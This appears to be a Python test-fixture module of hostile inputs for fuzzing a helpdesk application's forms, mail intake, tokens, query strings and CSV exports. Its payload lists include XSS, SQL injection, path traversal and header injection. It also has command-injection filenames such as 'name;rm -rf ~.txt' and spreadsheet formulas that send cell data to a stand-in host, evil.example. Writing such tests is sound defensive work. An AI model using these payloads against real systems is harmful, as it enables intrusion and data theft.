"""Hostile inputs, written by hand in small families, crossed with the fields they target.

`TEXT` payloads go into every free-text sink (forms, API, mail, macros, tags, search,
survey comments). `FILENAMES`, `MIME`, `TOKENS` and `CSV` are specific to one kind of
input each. `CASES` is what test_hostile_inputs parametrizes over.
"""

from __future__ import annotations

TEXT: dict[str, list[str]] = {
    "script": [
        "<script>alert(1)</script>",
        '"><script>alert(1)</script>',
        "</textarea><script>alert(1)</script>",
    ],
    "handler": [
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        '" onmouseover="alert(1)" x="',
    ],
    "jslink": [
        "javascript:alert(1)",
        '<a href="javascript:alert(1)">click</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    ],
    "markup": [
        "<svg><script>alert(1)</script></svg>",
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        "{{ request.user.password }}{% debug %}${7*7}",
    ],
    "crlf": [
        "Hello\r\nBcc: victim@evil.example",
        "Hello\r\n\r\n<script>alert(1)</script>",
        "x\nSet-Cookie: session=evil",
    ],
    "sql": [
        "' OR '1'='1",
        "'; DROP TABLE tickets_ticket; --",
        "1; SELECT pg_sleep(5)--",
    ],
    "unicode": [
        "invoice\u202etxt.exe",
        "nul\x00inside",
        "zero\u200bwidth\ufeffbom \u2067isolate\u2069",
    ],
    "overlong": [
        "S" * 256,
        "B" * 100_001,
        "word " * 20_000,
    ],
}

# Where a text payload goes. Each is implemented in test_hostile_inputs.SINKS.
TEXT_SINKS = [
    "public_subject",
    "public_description",
    "portal_reply",
    "agent_reply",
    "agent_new",
    "api_ticket",
    "api_message",
    "mail",
    "survey_comment",
    "macro",
    "tags",
    "search",
]

FILENAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//x.txt",
    "<img src=x onerror=alert(1)>.png",
    '"><script>alert(1)</script>.txt',
    "invoice\u202efdp.exe",
    "nul\x00.txt",
    "a" * 300 + ".txt",
    ".htaccess",
    "page.html",
    "image.svg",
    "setup.exe.",
    "😀 report.txt",
    "CON",
    "a\r\nContent-Type: text/html.txt",
    "%2e%2e%2fetc%2fpasswd",
    "=cmd|' /C calc'!A0.csv",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "..%252f..%252fetc%252fpasswd",
    "\\\\evil.example\\share\\x.txt",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "file:///etc/passwd",
    "x.txt\x00.html",
    "report.txt\r\n",
    "tab\tname.txt",
    "bidi\u2066gpj.exe\u2069.txt",
    "zero\u200bwidth.txt",
    "fullwidth\uff0e\uff0e\uff0fx.txt",
    "trailing dots...",
    "   ",
    "x.txt::$DATA",
    "-rf.txt",
    "$(reboot).txt",
    "`id`.txt",
    "name;rm -rf ~.txt",
    "%00.txt",
    "LPT1.txt",
    "aux.html",
    "a.svg.txt",
    "x.xhtml",
    "x.xml",
    "x.htm",
]

_HEAD = "From: Casey <{email}>\r\nTo: support@attune.localhost\r\nMessage-ID: <{mid}@x>\r\n"
MIME: dict[str, str] = {
    "no-headers": "just a body\r\n",
    "no-from": "Subject: hi\r\nMessage-ID: <nofrom@x>\r\n\r\nbody",
    "bad-from": "From: <<<>>>\r\nSubject: hi\r\n\r\nbody",
    "from-crlf-name": 'From: "Casey\r\nBcc: v@evil.example" <{email}>\r\nSubject: x\r\n\r\nbody',
    "broken-boundary": _HEAD + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nno end',
    "missing-boundary": _HEAD + "Content-Type: multipart/mixed\r\n\r\n--x\r\nbody\r\n--x--",
    "bad-base64": _HEAD + "Content-Transfer-Encoding: base64\r\n\r\n!!!not base64$$$",
    "bad-qp": _HEAD + "Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=",
    "unknown-charset": _HEAD + "Content-Type: text/plain; charset=x-klingon\r\n\r\nqapla",
    "encoded-word-crlf": _HEAD + "Subject: =?utf-8?q?a=0D=0ABcc=3A_v=40evil.example?=\r\n\r\nx",
    "html-only": _HEAD + "Content-Type: text/html\r\n\r\n<script>alert(1)</script><b>hi</b>",
    "svg-attachment": _HEAD
    + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
    + 'hi\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename="'
    + '../../x.svg"\r\n\r\n<svg onload=alert(1)/>\r\n--b--\r\n',
    "deep-nesting": _HEAD
    + "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(60)
    )
    + "Content-Type: text/plain\r\n\r\ndeep\r\n",
    "long-header": _HEAD + "Subject: " + "x" * 20_000 + "\r\n\r\nbody",
    "forged-reply-token": "From: Robin <{other}>\r\nTo: support+t{ticket}.0000000000000000@attune"
    ".localhost\r\nMessage-ID: <forged@x>\r\nSubject: Re: yours\r\n\r\nI am not the requester.",
    "thread-by-subject": "From: Robin <{other}>\r\nTo: support@attune.localhost\r\n"
    "Message-ID: <subj@x>\r\nSubject: Re: [Attune #{ticket}] yours\r\n\r\nLet me in.",
    "thread-by-references": "From: Robin <{other}>\r\nTo: support@attune.localhost\r\n"
    "Message-ID: <refs@x>\r\nIn-Reply-To: <{a_mail}>\r\nReferences: <{a_mail}>\r\n"
    "Subject: Re: yours\r\n\r\nLet me in too.",
    "eight-bit-headers": _HEAD + "Subject: caf\xe9 \xff\xfe\r\n\r\n\xff\xfe body",
    "boundary-in-body": _HEAD
    + 'Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b--\r\n--b\r\nx\r\n',
    "zero-length": "",
    "header-folding-bcc": _HEAD + "Subject: hi\r\n Bcc: v@evil.example\r\n\r\nbody",
    "duplicate-from": "From: Casey <{email}>\r\nFrom: Robin <{other}>\r\nMessage-ID: <dup-from@x>"
    "\r\nSubject: two senders\r\n\r\nwho am I",
    "html-attachment-named-txt": _HEAD
    + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n'
    + 'Content-Disposition: attachment; filename="note.txt"\r\n\r\n<script>alert(1)</script>'
    + "\r\n--b--\r\n",
    "rfc2231-traversal-name": _HEAD
    + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n'
    + "Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fetc%2Fpasswd\r\n\r\nx"
    + "\r\n--b--\r\n",
}

TOKENS: dict[str, tuple[str, str]] = {
    # name: (kind, value); kinds are implemented in test_hostile_inputs.TOKEN_SENDERS
    "survey-empty-ish": ("survey", "x"),
    "survey-huge": ("survey", "A" * 5000),
    "survey-traversal": ("survey", "..%2F..%2Fetc%2Fpasswd"),
    "survey-other-salt": ("survey", "PORTAL"),
    "survey-bad-rating": ("survey", "RATING99"),
    "survey-string-id": ("survey", "STRINGID"),
    "portal-garbage": ("portal", "eyJjIjoxfQ:garbage:sig"),
    "portal-huge": ("portal", "B" * 5000),
    "portal-survey-token": ("portal", "SURVEY"),
    "portal-without-sign-in-state": ("portal", "PORTAL_V1"),  # the 7-day, reusable format
    "portal-used": ("portal", "PORTAL_USED"),
    "api-token-garbage": ("api", "Bearer atn_not-a-real-token"),
    "api-bearer-jwt": ("api", "Bearer abc.def.ghi"),
    "api-token-huge": ("api", "Bearer atn_" + "C" * 10_000),
    "api-token-nul": ("api", "bearer atn_abc\x00def"),
    "api-token-scheme": ("api", "Token atn_abc"),
    "api-basic": ("api", "Basic Zm9vOmJhcg=="),
    "api-revoked": ("api", "REVOKED"),
    "inbound-secret-wrong": ("inbound", "inbound-test-secreT"),
    "inbound-secret-prefix": ("inbound", "inbound-test-secret\x00"),
    "inbound-secret-unicode": ("inbound", "inbound-test-secrét"),
    "survey-crlf": ("survey", "abc%0d%0aSet-Cookie:x=1"),
    "survey-unicode": ("survey", "\u202e\u0000x"),
    "survey-signed-other-salt": ("survey", "PORTAL_V1"),
    "portal-traversal": ("portal", "..%2F..%2Fadmin"),
    "portal-dots": ("portal", ":::"),
    "api-bearer-empty": ("api", "Bearer "),
    "api-bearer-sql": ("api", "Bearer atn_' OR '1'='1"),
    "api-two-schemes": ("api", "Bearer atn_abc, Bearer atn_def"),
    "inbound-secret-empty": ("inbound", ""),
    "inbound-secret-spaces": ("inbound", " inbound-test-secret "),
}

# (role, path with a hostile query string) for the list and report pages.
QUERIES = [
    ("agent_x", "/tickets/?after=%00%ff"),
    ("agent_x", "/tickets/?after=MTcwMDAwMDAwMHw5OTk5OTk5OTk5OTk5OTk5OTk5OTk5fDE="),
    ("agent_x", "/tickets/?after=-1|x|y&view=%3Cscript%3E"),
    ("agent_x", "/tickets/?assignee=1e309&status=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
    ("agent_x", "/tickets/?queue=../../etc&tag=%27%20OR%201%3D1--&tier=x&channel=%00"),
    ("agent_x", "/tickets/?macro=1%27"),
    ("agent_x", "/tickets/search/?q=" + "a%20" * 2000),
    ("agent_x", "/tickets/search/?q=%22unterminated&q=-&q=!!!:*"),
    ("agent_x", "/tickets/search/?q=%3A*+%26+%7C+%21+%28"),
    ("mgr_x", "/empathy/dashboard/?start=9999-99-99&end=0000-00-00"),
    ("mgr_x", "/empathy/dashboard/?start=2020-01-01&end=1900-01-01"),
    ("mgr_x", "/empathy/dashboard/export.csv?start=%00&end=%3Cscript%3E"),
    ("mgr_x", "/surveys/report/?start=1-1-1&end=99999-01-01"),
    ("agent_x", "/empathy/me/?start=%27&end=%22"),
    ("agent_x", "/api/v1/tickets/?cursor=%00%ff%fe"),
    ("agent_x", "/api/v1/tickets/?cursor=cD0yMDI0LTAxLTAxJnI9MQ%3D%3D"),
    ("agent_x", "/api/v1/tickets/?status=%3Cscript%3E&priority=%00&assignee=abc"),
    ("agent_x", "/api/v1/tickets/?queue=%27%3B--&tag=" + "t" * 5000),
    ("agent_x", "/api/v1/tickets/?unassigned=maybe&challenging=2&tier=%0d%0a"),
    ("mgr_x", "/api/v1/surveys/summary/?start=abc&end=2020-13-45"),
    ("agent_x", "/api/v1/empathy/scores/?cursor=garbage"),
    ("agent_x", "/api/v1/tickets/abc/"),
    ("agent_x", "/api/v1/tickets/99999999999999999999999/"),
    ("agent_x", "/tickets/99999999999999999999999/"),
    ("cust_a", "/files/99999999999999999999999/"),
    ("anon", "/login/?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"),
    ("anon", "/login/?next=javascript:alert(1)//%0d%0aX:%20y"),
    ("anon", "/support/new/?subject=%3Cscript%3E&email=%22%3E"),
    ("agent_x", "/tickets/?after=" + "A" * 10_000),
    ("agent_x", "/tickets/?status=open&status=closed&status=%00&status=" + "s" * 300),
    ("agent_x", "/tickets/?priority=-1&assignee=-1&queue=0"),
    ("agent_x", "/tickets/?page=-1&page=abc&per_page=1000000"),
    ("agent_x", "/tickets/?view=%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("agent_x", "/tickets/?order=-pk;DROP%20TABLE%20x&sort=__class__"),
    ("agent_x", "/tickets/search/?q=%E2%80%AE%00%C0%AF"),
    ("agent_x", "/tickets/search/?q=%ff%fe%fd"),
    ("agent_x", "/tickets/search/?q=%27%29%3B+SELECT+pg_sleep%285%29--"),
    ("agent_x", "/tickets/search/?q=%23999999999999999999999"),
    ("agent_x", "/tickets/search/?q=&status=%3Cscript%3E&queue=x"),
    ("agent_x", "/tickets/macros/?q=%3Csvg+onload%3Dalert(1)%3E"),
    ("mgr_x", "/empathy/dashboard/?team=abc&start=%0d%0a"),
    ("mgr_x", "/empathy/dashboard/?team=99999999999999999999&start=2020-02-30"),
    ("mgr_x", "/empathy/dashboard/export.csv?team=-1&start=2024-01-01&end=2024-01-01T00:00"),
    ("mgr_x", "/surveys/report/?start=%3Cscript%3E&team=%27"),
    ("mgr_x", "/surveys/report/?page=99999999999999999999"),
    ("agent_x", "/empathy/me/?start=2024-02-30&end=2024-13-01"),
    ("agent_x", "/api/v1/tickets/?limit=-1&page_size=100000000"),
    ("agent_x", "/api/v1/tickets/?ordering=password&ordering=-requester__user__password"),
    ("agent_x", "/api/v1/tickets/?q=%00%27%22%3C%3E&updated_after=notadate"),
    ("agent_x", "/api/v1/tickets/?created_after=9999-12-31T99:99:99&created_before=0"),
    ("agent_x", "/api/v1/tickets/1/messages/?cursor=%00"),
    ("agent_x", "/api/v1/tickets/1/events/?cursor=cD0xJnI9MQ%3D%3D&limit=abc"),
    ("agent_x", "/api/v1/customers/?q=%25%25%25&cursor=x"),
    ("agent_x", "/api/v1/macros/?search=%3Cscript%3E&cursor=%ff"),
    ("mgr_x", "/api/v1/empathy/dashboard/?team=abc&start=x&end=y"),
    ("mgr_x", "/api/v1/empathy/scores/?agent=abc&level=%00&min=1e309"),
    ("mgr_x", "/api/v1/surveys/?cursor=%00&rating=abc&team=-1"),
    ("agent_x", "/api/v1/empathy/exemplary/?cursor=x&team=%27"),
    ("cust_a", "/portal/?page=%00&q=%3Cscript%3E"),
    ("cust_a", "/portal/tickets/99999999999999999999999/"),
    ("anon", "/portal/login/%2e%2e%2f%2e%2e%2fetc%2fpasswd/"),
    ("anon", "/surveys/s/%00%ff/"),
]

CSV = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C notepad'!A0",
    "|calc",
    "%0A=1+1",
    "=1+1",
    "+SUM(A1:A9)",
    "@@=1+1",
    "\n=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "-@SUM(1)",
    "\u200b=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "'=1+1",
]

TEXT_PAYLOADS = [
    (f"{family}-{i}", text) for family, items in TEXT.items() for i, text in enumerate(items)
]
CASES = [(sink, pid, text) for sink in TEXT_SINKS for pid, text in TEXT_PAYLOADS]
CORPUS_SIZE = len(CASES) + len(QUERIES) + len(FILENAMES) + len(MIME) + len(TOKENS) + len(CSV)
# The hand-written inputs, each counted once however many sinks it is sent to.
DISTINCT_INPUTS = (
    len(TEXT_PAYLOADS) + len(QUERIES) + len(FILENAMES) + len(MIME) + len(TOKENS) + len(CSV)
)
